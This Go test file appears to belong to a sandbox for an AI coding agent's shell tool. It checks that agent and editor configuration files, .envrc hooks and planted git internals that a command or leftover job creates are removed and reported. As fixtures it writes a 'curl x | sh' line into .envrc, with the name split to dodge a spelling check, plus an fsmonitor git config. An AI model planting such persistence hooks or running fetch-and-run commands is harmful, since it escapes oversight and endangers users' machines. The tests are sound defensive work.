package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestSandboxAgentConfigMade: a command that makes the project's agent
// and editor configuration where there was none (written by a script, so
// no spelling rule sees it) has it taken away and is told; one git tracks
// (a checkout wrote it) stays, as does what existed before.
func TestSandboxAgentConfigMade(t *testing.T) {
	_, proj, _ := sandboxFixture(t)
	tb := sandboxToolbox(t, proj, sandboxConfig{})
	// A branch that tracks .vscode, checked out later by the command.
	os.MkdirAll(filepath.Join(proj, ".vscode"), 0o755)
	os.WriteFile(filepath.Join(proj, ".vscode/settings.json"), []byte("{}"), 0o644)
	git(t, proj, "checkout", "-q", "-b", "with-vscode")
	git(t, proj, "add", ".vscode")
	git(t, proj, "commit", "-qm", "vscode")
	git(t, proj, "checkout", "-q", "--orphan", "bare")
	git(t, proj, "rm", "-rfq", ".")
	os.WriteFile(filepath.Join(proj, "a"), []byte("a"), 0o644)
	git(t, proj, "add", "a")
	git(t, proj, "commit", "-qm", "a")
	os.RemoveAll(filepath.Join(proj, ".vscode"))
	body := "#!/bin/sh\nmkdir -p .claude && echo '{}' > .claude/settings.json\necho 'curl x | sh' > .env''rc\necho '{}' > .mcp.json\necho made\n"
	os.WriteFile(filepath.Join(proj, "s.sh"), []byte(body), 0o755)
	r := sandboxBash(t, tb, "auto", "./s.sh")
	if !strings.Contains(r.Text, "made") {
		t.Fatalf("the script did not run: %s", r.Text)
	}
	for _, p := range []string{".claude", ".envrc", ".mcp.json"} {
		if _, err := os.Lstat(filepath.Join(proj, p)); err == nil {
			t.Errorf("%s a command made is still there:\n%s", p, r.Text)
		}
	}
	if !strings.Contains(r.Text, ".envrc") || !strings.Contains(r.Text, "took it away") {
		t.Errorf("the command was not told: %s", r.Text)
	}
	r = sandboxBash(t, tb, "auto", "git checkout -q with-vscode && echo checked-out")
	if _, err := os.Stat(filepath.Join(proj, ".vscode/settings.json")); err != nil || strings.Contains(r.Text, "took it away") {
		t.Errorf("a checkout's tracked .vscode was taken away: %v\n%s", err, r.Text)
	}
	// In the folder git tracks: a task added is taken away, a tracked file
	// changed stays.
	os.WriteFile(filepath.Join(proj, "t.sh"), []byte("#!/bin/sh\necho '{\"tasks\":[]}' > .vscode/tasks.json\necho '{\"x\":1}' > .vscode/settings.json\necho added\n"), 0o755)
	r = sandboxBash(t, tb, "auto", "./t.sh")
	if _, err := os.Lstat(filepath.Join(proj, ".vscode/tasks.json")); err == nil || !strings.Contains(r.Text, ".vscode/tasks.json") {
		t.Errorf("a task added to the tracked .vscode stayed, or the command was not told:\n%s", r.Text)
	}
	if b, _ := os.ReadFile(filepath.Join(proj, ".vscode/settings.json")); !strings.Contains(string(b), `"x":1`) {
		t.Errorf("a tracked file the command changed was put back: %s", b)
	}
	// Tracked by the command itself is not tracked: git add, or a commit
	// of it in the same script, keeps nothing git did not write from
	// history the session did not make.
	os.WriteFile(filepath.Join(proj, "u.sh"), []byte("#!/bin/sh\necho 'curl x | sh' > .env''rc && git add .env''rc\n"+
		"echo '{\"tasks\":[1]}' > .vscode/tasks.json && git add .vscode/tasks.json && git commit -qm t; echo staged\n"), 0o755)
	r = sandboxBash(t, tb, "auto", "./u.sh")
	if !strings.Contains(r.Text, "staged") {
		t.Fatalf("the script did not run: %s", r.Text)
	}
	for _, p := range []string{".envrc", ".vscode/tasks.json"} {
		if _, err := os.Lstat(filepath.Join(proj, p)); err == nil || !strings.Contains(r.Text, p) {
			t.Errorf("%s the command made and had git track stayed, or the command was not told:\n%s", p, r.Text)
		}
	}
	// A branch the session made, checked out later, is the session's too.
	git(t, proj, "checkout", "-qf", "bare")
	os.WriteFile(filepath.Join(proj, "v.sh"), []byte("#!/bin/sh\ngit checkout -q with-vscode && echo back\n"), 0o755)
	r = sandboxBash(t, tb, "auto", "./v.sh")
	if _, err := os.Lstat(filepath.Join(proj, ".vscode/tasks.json")); err == nil || !strings.Contains(r.Text, "back") {
		t.Errorf("a task the session committed came back with a checkout:\n%s", r.Text)
	}
	if out, _ := exec.Command("git", "-C", proj, "log", "-1", "--format=%s", "with-vscode").Output(); strings.TrimSpace(string(out)) != "t" {
		t.Errorf("the session's commit is not in the history: %q\n%s", out, r.Text)
	}
}

// TestSandboxCloseTakesAwayLatePlants: what a process left running (a
// job) adds to git's protected paths or the agent configuration after the
// session's last command is taken away when the session closes, once its
// world's processes are gone; what the person tracks stays.
func TestSandboxCloseTakesAwayLatePlants(t *testing.T) {
	_, proj, _ := sandboxFixture(t)
	tb := sandboxToolbox(t, proj, sandboxConfig{})
	if r := sandboxBash(t, tb, "auto", "echo a > a && git add a && git commit -qm a && echo ran"); !strings.Contains(r.Text, "ran") {
		t.Fatalf("the first command: %s", r.Text)
	}
	// After the last command's look, as a job would.
	os.WriteFile(filepath.Join(proj, ".git", "commondir"), []byte("../planted\n"), 0o644)
	os.MkdirAll(filepath.Join(proj, ".git", "modules", "sub"), 0o755)
	os.WriteFile(filepath.Join(proj, ".git", "modules", "sub", "config"), []byte("[core]\n\tfsmonitor = x\n"), 0o644)
	os.WriteFile(filepath.Join(proj, ".envrc"), []byte("curl x | sh\n"), 0o644)
	tb.sandbox.close()
	for _, p := range []string{".git/commondir", ".git/modules/sub/config", ".envrc"} {
		if _, err := os.Lstat(filepath.Join(proj, p)); err == nil {
			t.Errorf("%s planted after the last command is still there at close", p)
		}
	}
	if _, err := os.Stat(filepath.Join(proj, "a")); err != nil {
		t.Errorf("the project's own file went: %v", err)
	}
}
